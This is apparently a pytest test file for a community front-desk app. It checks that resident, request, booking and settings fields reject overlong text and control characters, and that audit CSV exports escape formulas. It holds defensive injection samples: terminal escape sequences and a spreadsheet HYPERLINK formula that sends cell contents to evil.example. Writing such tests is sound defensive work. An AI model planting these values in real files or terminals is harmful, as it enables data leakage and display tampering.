"""Every service that takes free text refuses what is over its limit or holds a control character,
with a message naming the field, and writes nothing: never a silent cut (issue 10, section 6).
What leaves the program is safe: CSV cells are no formulas, the command line prints no ESC."""

from __future__ import annotations

import csv
import shutil
import sqlite3
from datetime import date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import pytest
from peewee import SqliteDatabase

from frontdesk.bookings.booking import cancel_booking, create_booking
from frontdesk.bookings.closures import create_closure
from frontdesk.bookings.rules import Booker, BookingInput, BookingRefused, is_free, load_room
from frontdesk.bookings.series import SeriesInput, create_series
from frontdesk.cli import main
from frontdesk.db.models import (
    AuditEntry,
    Booking,
    BookingSeries,
    Request,
    Resident,
    Room,
    Setting,
)
from frontdesk.requests.intake import Place, Reporter, RequestInput, attach_report, create_request
from frontdesk.requests.lifecycle import add_note, escalate, reopen, resolve
from frontdesk.residents.editing import (
    HouseholdInput,
    ResidentInput,
    ValidationFailed,
    add_tag,
    move_out_resident,
    record_death,
    register_household,
    register_resident,
    update_resident,
)
from frontdesk.residents.privacy import reveal
from frontdesk.settings import change_setting
from frontdesk.textrules import TextRefused
from frontdesk.vocabulary import Relation, ResidentStatus
from tests.conftest import DEMO_NOW
from tests.roles import staff_of

LONG_NAME = "阿卜杜热合曼买买提明阿卜杜热合曼买买提明阿卜杜热合曼买买提明阿卜杜热合曼买买提明"  # 40
ESC_NAME = "王\x1b]0;pwned\x07芳"
NOW = datetime(2026, 11, 30, 9, 0)  # a Monday


def refused_field(exc: pytest.ExceptionInfo[Any]) -> tuple[str, str]:
    """(field, catalog key) of a refusal by a ValidationFailed or a TextRefused."""
    error = exc.value
    if isinstance(error, ValidationFailed):
        ((name, message),) = error.validation.errors.items()
        return name, message.key
    assert isinstance(error, TextRefused), type(error)
    return error.field, error.key


def _living(head: bool = False) -> Any:
    query = Resident.select().where(Resident.status == ResidentStatus.LIVING)
    query = query.where(
        Resident.relation == Relation.HEAD if head else Resident.relation != Relation.HEAD
    )
    return query.order_by(Resident.id).first()


def _entries() -> int:
    return AuditEntry.select().count()


# -- residents ------------------------------------------------------------------------------------


def _new_person(**values: Any) -> ResidentInput:
    fields: dict[str, Any] = {"name": "买买提明", "gender": "M", "birth_date": date(1990, 5, 17)}
    fields.update(values)
    return ResidentInput(**fields)


@pytest.mark.parametrize(
    ("values", "field", "key"),
    [
        ({"name": "热" * 31}, "name", "validation.name_too_long"),  # 31–40 passed before
        ({"name": LONG_NAME}, "name", "validation.name_too_long"),
        ({"name": ESC_NAME}, "name", "text.control"),
        ({"name": "王芳😀"}, "name", "text.name_char"),
        ({"notes": "备" * 2001}, "notes", "text.too_long"),
        ({"notes": "x" * 1_000_000}, "notes", "text.too_long"),
        ({"notes": "第一行\x1b[2J"}, "notes", "text.control"),
        ({"ethnicity": "维吾尔族\n汉族"}, "ethnicity", "text.one_line"),
    ],
)
def test_registering_a_resident_refuses_each_text_and_writes_nothing(
    demo_copy: SqliteDatabase, values: dict[str, Any], field: str, key: str
) -> None:
    household_id = _living(head=True).household_id
    before = (Resident.select().count(), _entries())
    with pytest.raises(ValidationFailed) as caught:
        register_resident(household_id, _new_person(**values), actor_id=staff_of(), now=DEMO_NOW)
    assert refused_field(caught) == (field, key)
    assert (Resident.select().count(), _entries()) == before


def test_a_realistic_name_and_a_full_note_are_kept_as_typed(demo_copy: SqliteDatabase) -> None:
    household_id = _living(head=True).household_id
    note = "\n".join(["第一行", "备" * 1990])
    data = _new_person(name="阿卜杜热合曼·买买提明", notes=note)
    new_id = register_resident(household_id, data, actor_id=staff_of(), now=DEMO_NOW)
    row = Resident.get_by_id(new_id)
    assert (row.name, row.notes) == ("阿卜杜热合曼·买买提明", note)


def test_editing_a_resident_refuses_a_long_note_and_a_long_name(demo_copy: SqliteDatabase) -> None:
    person = _living()
    for changes, field in (({"notes": "备" * 2001}, "notes"), ({"name": "热" * 35}, "name")):
        with pytest.raises(ValidationFailed) as caught:
            update_resident(person.id, person.version, changes, actor_id=staff_of(), now=DEMO_NOW)
        assert refused_field(caught)[0] == field
    again = Resident.get_by_id(person.id)
    assert (again.name, again.notes, again.version) == (person.name, person.notes, person.version)


def test_a_household_note_is_bounded(demo_copy: SqliteDatabase) -> None:
    flat = _living(head=True).household.flat_id
    data = HouseholdInput(flat, DEMO_NOW.date(), _new_person(), notes="备" * 2001)
    with pytest.raises(ValidationFailed) as caught:
        register_household(data, actor_id=staff_of(), now=DEMO_NOW)
    assert refused_field(caught) == ("notes", "text.too_long")


def test_leaving_texts_and_tag_notes_are_bounded(demo_copy: SqliteDatabase) -> None:
    person = _living()
    on = DEMO_NOW.date()
    kwargs: dict[str, Any] = {"version": person.version, "actor_id": staff_of(), "now": DEMO_NOW}
    with pytest.raises(ValidationFailed) as caught:
        move_out_resident(person.id, on, "迁往太原市" * 41, **kwargs)
    assert refused_field(caught) == ("forwarding_contact", "text.too_long")
    with pytest.raises(ValidationFailed) as caught:
        move_out_resident(person.id, on, "迁往太原市\n电话", **kwargs)
    assert refused_field(caught) == ("forwarding_contact", "text.one_line")
    with pytest.raises(ValidationFailed) as caught:
        record_death(person.id, on, note="因病" * 101, **kwargs)
    assert refused_field(caught) == ("note", "text.too_long")
    with pytest.raises(ValidationFailed) as caught:
        add_tag(person.id, "veteran", note="说明" * 101, actor_id=staff_of(), now=DEMO_NOW)
    assert refused_field(caught) == ("note", "text.too_long")
    assert Resident.get_by_id(person.id).status == ResidentStatus.LIVING


def test_a_reveal_reason_is_bounded_and_the_formula_one_is_escaped_in_the_export(
    demo_copy: SqliteDatabase, tmp_path: Path
) -> None:
    from frontdesk.audit import AuditFilters, export_entries

    person = Resident.select().where(Resident.phone.is_null(False)).order_by(Resident.id).first()
    before = _entries()
    for reason, key in (("查" * 201, "text.too_long"), ("联系\x1b[31m", "text.control")):
        with pytest.raises(TextRefused) as caught:
            reveal(person.id, "phone", reason, actor_id=staff_of(), now=DEMO_NOW)
        assert refused_field(caught) == ("reason", key)
    assert _entries() == before
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    reveal(person.id, "phone", formula, actor_id=staff_of(), now=DEMO_NOW)
    path = tmp_path / "audit.csv"
    export_entries(
        AuditFilters(action="resident.reveal_phone"), path, actor_id=staff_of(), now=DEMO_NOW
    )
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# -- requests -------------------------------------------------------------------------------------


def _request(**values: Any) -> RequestInput:
    person = _living()
    fields: dict[str, Any] = {
        "category": "lighting",
        "urgency": "normal",
        "description": "楼道灯不亮",
        "reporter": Reporter("", resident_id=person.id),
        "place": Place(),
    }
    fields.update(values)
    return RequestInput(**fields)


@pytest.mark.parametrize(
    ("values", "field", "key"),
    [
        ({"description": "灯" * 2001}, "description", "text.too_long"),
        ({"description": "灯不亮\x07"}, "description", "text.control"),
        ({"reporter": Reporter("热" * 31, "13900001111")}, "reporter", "validation.name_too_long"),
        ({"reporter": Reporter(ESC_NAME, "13900001111")}, "reporter", "text.control"),
        ({"reporter": Reporter("王阿姨", "138000011a1")}, "phone", "validation.phone_format"),
        ({"place": Place(grid_l4_id=1, text="楼" * 201)}, "place_text", "text.too_long"),
    ],
)
def test_logging_a_request_refuses_each_text(
    demo_copy: SqliteDatabase, values: dict[str, Any], field: str, key: str
) -> None:
    before = Request.select().count()
    with pytest.raises(TextRefused) as caught:
        create_request(_request(**values), actor_id=staff_of(), now=NOW)
    assert refused_field(caught) == (field, key)
    assert Request.select().count() == before


def test_request_notes_reasons_and_reports_are_bounded(demo_copy: SqliteDatabase) -> None:
    logged = create_request(_request(), actor_id=staff_of(), now=NOW)
    actor = staff_of()
    calls = [
        lambda: add_note(logged.id, "记" * 2001, actor_id=actor, now=NOW),
        lambda: escalate(logged.id, 1, "升" * 201, actor_id=actor, now=NOW),
        lambda: resolve(logged.id, 1, "修" * 2001, "grid", actor_id=actor, now=NOW),
        lambda: reopen(logged.id, 1, "又\x1b坏", actor_id=actor, now=NOW),
        lambda: attach_report(logged.id, Reporter("邻居", "139"), "", actor_id=actor, now=NOW),
        lambda: attach_report(
            logged.id, Reporter("邻居", "13900001111"), "同" * 2001, actor_id=actor, now=NOW
        ),
    ]
    for call in calls:
        with pytest.raises(TextRefused):
            call()
    row = Request.get_by_id(logged.id)
    assert (row.level, row.status) == ("grid", "assigned")


# -- bookings -------------------------------------------------------------------------------------


def _room() -> int:
    return int(Room.select(Room.id).where(Room.active == True).order_by(Room.id).scalar())  # noqa: E712


def _free(room_id: int) -> datetime:
    rules = load_room(room_id)
    for days in range(1, 8):
        start = datetime.combine(NOW.date() + timedelta(days=days), time(9, 0))
        while start.hour < 17:
            if is_free(rules, start, start + timedelta(hours=1)):
                return start
            start += timedelta(minutes=30)
    raise AssertionError("no free hour")


def _booking(**values: Any) -> BookingInput:
    room_id = _room()
    start = _free(room_id)
    fields: dict[str, Any] = {
        "room_id": room_id,
        "starts_at": start,
        "ends_at": start + timedelta(hours=1),
        "title": "读书会",
        "booker": Booker("organisation", "老年协会", "03588888888"),
        "attendees": 3,
    }
    fields.update(values)
    return BookingInput(**fields)


@pytest.mark.parametrize(
    ("values", "key"),
    [
        ({"title": "读" * 61}, "text.too_long"),
        ({"title": "读书会\n第二行"}, "text.one_line"),
        ({"notes": "备" * 2001}, "text.too_long"),
        ({"booker": Booker("person", "热" * 31, "13900001111")}, "validation.name_too_long"),
        ({"booker": Booker("person", "王芳", "138000011a1")}, "validation.phone_format"),
        ({"booker": Booker("organisation", "协" * 61, "")}, "text.too_long"),
    ],
)
def test_booking_texts_and_the_bookers_phone_are_checked(
    demo_copy: SqliteDatabase, values: dict[str, Any], key: str
) -> None:
    before = Booking.select().count()
    with pytest.raises(BookingRefused) as caught:
        create_booking(_booking(**values), actor_id=staff_of(), now=NOW)
    assert [p.key for p in caught.value.problems] == [key]
    assert not caught.value.suggestions  # another time would not help
    assert Booking.select().count() == before


def test_an_organisation_may_have_digits_and_brackets(demo_copy: SqliteDatabase) -> None:
    booker = Booker("organisation", "吕梁市第一中学（高二3班）", "")
    booking_id = create_booking(_booking(booker=booker), actor_id=staff_of(), now=NOW)
    assert Booking.get_by_id(booking_id).booker_name == "吕梁市第一中学（高二3班）"


def test_a_series_title_is_checked_before_any_date(demo_copy: SqliteDatabase) -> None:
    booker = Booker("organisation", "老年协会", "03588888888")
    data = SeriesInput(
        _room(), "读" * 61, (0,), time(19, 0), time(20, 0), NOW.date(), booker, None, 4
    )
    before = Booking.select().count()
    with pytest.raises(BookingRefused) as caught:
        create_series(data, skip_conflicts=True, actor_id=staff_of(), now=NOW)
    assert caught.value.problems[0].key == "text.too_long"
    assert Booking.select().count() == before


def test_cancelling_a_series_needs_a_bounded_reason(demo_copy: SqliteDatabase) -> None:
    from frontdesk.bookings.series import cancel_series

    booker = Booker("organisation", "老年协会", "03588888888")
    data = SeriesInput(_room(), "太极", (0,), time(19, 0), time(20, 0), NOW.date(), booker, None, 3)
    saved = create_series(data, skip_conflicts=True, actor_id=staff_of(), now=NOW)
    version = BookingSeries.get_by_id(saved.series_id).version
    first = Booking.select().where(Booking.series == saved.series_id).order_by(Booking.id).get()
    with pytest.raises(TextRefused) as caught:
        cancel_series(
            first.id,
            "all",
            "停" * 201,
            series_id=saved.series_id,
            version=version,
            actor_id=staff_of(),
            now=NOW,
        )
    assert refused_field(caught) == ("reason", "text.too_long")
    assert Booking.get_by_id(first.id).status == "booked"


def test_cancel_and_closure_reasons_are_bounded(demo_copy: SqliteDatabase) -> None:
    booking_id = create_booking(_booking(), actor_id=staff_of(), now=NOW)
    with pytest.raises(TextRefused):
        cancel_booking(booking_id, 1, "取" * 201, actor_id=staff_of(), now=NOW)
    assert Booking.get_by_id(booking_id).status == "booked"
    start = NOW + timedelta(days=1)
    community = Room.select(Room.community).where(Room.id == _room()).scalar()
    for reason, note in (("修" * 201, ""), ("维修", "通" * 201)):
        with pytest.raises(TextRefused):
            create_closure(
                community,
                None,
                start,
                start + timedelta(hours=2),
                reason,
                cancel_hit=True,
                note=note,
                actor_id=staff_of(),
                now=NOW,
            )


# -- staff, settings ------------------------------------------------------------------------------


def test_a_staff_name_follows_the_name_rule(demo_copy: SqliteDatabase) -> None:
    from frontdesk.staff import StaffInput, create_staff

    for name, key in (("热" * 31, "validation.name_too_long"), ("前台1号", "text.name_char")):
        data = StaffInput(username="new-desk", display_name=name, role="reception")
        with pytest.raises(ValidationFailed) as caught:
            create_staff(data, actor_id=staff_of(), now=DEMO_NOW)
        assert refused_field(caught) == ("display_name", key)


def test_the_first_account_from_the_command_line_follows_the_name_rule(
    empty_db: SqliteDatabase,
) -> None:
    from frontdesk.auth.signin import first_account

    with pytest.raises(TextRefused) as caught:
        first_account("boss", ESC_NAME, "admin", now=DEMO_NOW)
    assert refused_field(caught) == ("name", "text.control")
    assert first_account("boss", "Maria Lopez", "admin", now=DEMO_NOW)


def test_a_setting_typed_is_bounded(demo_copy: SqliteDatabase) -> None:
    before = Setting.select().count()
    with pytest.raises(ValidationFailed) as caught:
        change_setting("auth.lock_after", "5" + " " * 300 + "0", actor_id=staff_of(), now=NOW)
    assert refused_field(caught) == ("value", "text.too_long")
    assert Setting.select().count() == before


# -- the command line -----------------------------------------------------------------------------


def test_find_prints_no_escape_sequence_from_a_name(
    demo_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "hostile.db"
    shutil.copy(demo_file, path)
    conn = sqlite3.connect(path)
    resident_id, phone = conn.execute(
        "SELECT id, phone FROM resident WHERE status = 'living' AND phone IS NOT NULL"
        " ORDER BY id LIMIT 1"
    ).fetchone()
    with conn:  # written round the program, as a hostile tester did
        conn.execute("UPDATE resident SET name = ? WHERE id = ?", (ESC_NAME, resident_id))
    conn.close()
    for extra in ([], ["--json"]):
        assert main(["find", phone, "--db", str(path), *extra]) == 0
        captured = capsys.readouterr()
        assert "\x1b" not in captured.out and "\x07" not in captured.out
        assert "␛]0;pwned" in captured.out or "\\u001b]0;pwned" in captured.out
